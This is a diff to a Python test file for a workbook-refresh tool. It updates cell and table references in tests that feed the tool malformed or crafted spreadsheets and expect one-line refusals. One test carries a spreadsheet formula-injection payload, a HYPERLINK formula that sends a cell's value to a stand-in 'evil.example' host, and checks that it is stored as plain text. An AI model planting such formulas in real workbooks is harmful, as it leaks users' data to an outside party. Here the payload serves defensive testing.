@@ -306,7 +306,7 @@ def test_stale_debris_of_an_earlier_crash_is_removed_and_reported(book):
 def test_text_that_looks_like_a_formula_is_written_as_inline_text(book, capsys):
     xml = parts(book)[INPUTS_PART].decode()
     evil = '=HYPERLINK("http://evil.example/?x="&amp;A1,"click")'
-    xml, n = re.subn(r'(<c r="A31"[^>]*?)(?: t="s")?>(?:<v>\d+</v>)</c>', lambda m: f'{m.group(1)} t="inlineStr"><is><t>{evil}</t></is></c>', xml, count=1)
+    xml, n = re.subn(r'(<c r="A35"[^>]*?)(?: t="s")?>(?:<v>\d+</v>)</c>', lambda m: f'{m.group(1)} t="inlineStr"><is><t>{evil}</t></is></c>', xml, count=1)
     assert n == 1
     rewrite(book, {INPUTS_PART: xml.encode()})
     assert refresh_cli(book, capsys)[0] == 0
@@ -343,7 +343,7 @@ def test_crafted_workbooks_give_one_line(book, capsys, case):
                 z.writestr(n, d)
         one_line_refusal(book, capsys, "the part xl/worksheets/sheet2.xml of sheet 'Inputs' is missing")
     elif case == "bogus table reference":
-        _edit(book, "xl/tables/table1.xml", 'ref="A30:R39"', 'ref="A30:nonsense"')
+        _edit(book, "xl/tables/table1.xml", 'ref="A34:S43"', 'ref="A34:nonsense"')
         one_line_refusal(book, capsys, "table tbl_lineup: bad reference")
     elif case == "ZZZZ5":
         set_name(book, "in_target", "Inputs!$ZZZZ$5")
@@ -356,17 +356,17 @@ def test_crafted_workbooks_give_one_line(book, capsys, case):
         rewrite(book, {"xl/styles.xml": re.sub(r'numFmtId="(\d+)"', 'numFmtId="1.5"', xml, count=3).encode()})
         one_line_refusal(book, capsys, 'numFmtId=\'1.5\' is not a whole number')
     elif case == "headerRowCount":
-        _edit(book, "xl/tables/table1.xml", 'ref="A30:R39"', 'ref="A30:R39" headerRowCount="one"')
+        _edit(book, "xl/tables/table1.xml", 'ref="A34:S43"', 'ref="A34:S43" headerRowCount="one"')
         one_line_refusal(book, capsys, "headerRowCount='one' is not a whole number")
     elif case == "shared-string index":
         xml = p[INPUTS_PART].decode()
-        rewrite(book, {INPUTS_PART: re.sub(r'(<c r="A31"[^>]*t="s"[^>]*><v>)\d+', r"\g<1>x1", xml, count=1).encode()})
+        rewrite(book, {INPUTS_PART: re.sub(r'(<c r="A35"[^>]*t="s"[^>]*><v>)\d+', r"\g<1>x1", xml, count=1).encode()})
         one_line_refusal(book, capsys, "shared-string index 'x1' is not a whole number")
     elif case == "cell reference in sheetData":
         _edit(book, INPUTS_PART, '<c r="B5"', '<c r="ZZZZ5"')
         one_line_refusal(book, capsys, "bad cell reference 'ZZZZ5'")
     else:
-        _edit(book, "xl/tables/table1.xml", 'ref="A30:R39"', 'ref="A30:C39"')
+        _edit(book, "xl/tables/table1.xml", 'ref="A34:S43"', 'ref="A34:C43"')
         one_line_refusal(book, capsys, "table tbl_lineup: its columns do not match")
 
 
